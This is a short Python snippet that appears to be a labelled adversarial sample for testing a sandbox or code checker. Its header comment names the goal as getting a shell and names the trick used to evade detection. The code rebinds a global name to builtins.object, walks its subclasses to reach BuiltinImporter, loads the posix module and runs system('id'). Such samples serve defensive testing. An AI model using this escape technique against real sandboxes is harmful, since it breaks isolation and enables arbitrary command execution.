# HARM: shell via BuiltinImporter | TRICK: function declares global Base and rebinds it with import-as alias (builtins.object) before the walk
class Base: pass
class A(Base): pass
def setup():
    global Base
    from builtins import object as Base
setup()
for k in Base.__subclasses__():
    if k.__name__ == "BuiltinImporter":
        k.load_module("posix").system("id")
